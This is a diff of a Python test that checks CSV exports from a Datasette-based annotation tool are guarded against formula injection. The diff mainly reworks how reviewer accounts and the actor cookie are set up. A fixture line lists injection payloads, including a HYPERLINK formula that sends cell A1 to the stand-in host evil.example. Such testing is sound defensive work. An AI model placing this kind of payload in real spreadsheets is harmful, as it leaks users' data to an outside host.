@@ -17,7 +17,7 @@ from reviewing import add_hostile_document, reviewer_accounts
 
 from annotator import sets, store
 from annotator.export import FORMULA_START
-from annotator.review import accounts, config, csv_guard
+from annotator.review import access, accounts, config, csv_guard
 
 FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Click for sources")', "=2", "-2-3",
             "=alice", "@cue", "+1+1", "\t=1")
@@ -139,16 +139,15 @@ def unguarded(text: str) -> list[str]:
             if cell.startswith(FORMULA_START) and not csv_guard.NUMBER.fullmatch(cell)]
 
 
-def test_every_csv_the_server_offers_is_guarded(db_copy, tmp_path, monkeypatch):
+def test_every_csv_the_server_offers_is_guarded(db_copy, tmp_path):
     add_hostile_document(db_copy)
     assert poison(db_copy) >= 40
-    team = accounts.load(reviewer_accounts(tmp_path / "reviewers.json"))
-    meta, env = config.build_metadata("claims", team)
-    for name, value in env.items():
-        monkeypatch.setenv(name, value)
+    reviewers = reviewer_accounts(tmp_path / "reviewers.json")
+    meta = config.build_metadata("claims", reviewers, "me", private=True)
     ds = Datasette([str(db_copy)], metadata=meta, settings={"facet_time_limit_ms": 1000})
     asyncio.run(ds.invoke_startup())
-    cookies = {"ds_actor": ds.sign({"a": {"id": "alice"}}, "actor")}
+    alice = access.actor_for("alice", accounts.load(reviewers)["alice"])
+    cookies = {"ds_actor": ds.sign({"a": alice}, "actor")}
 
     def get(url):
         return asyncio.run(ds.client.get(url, cookies=cookies))
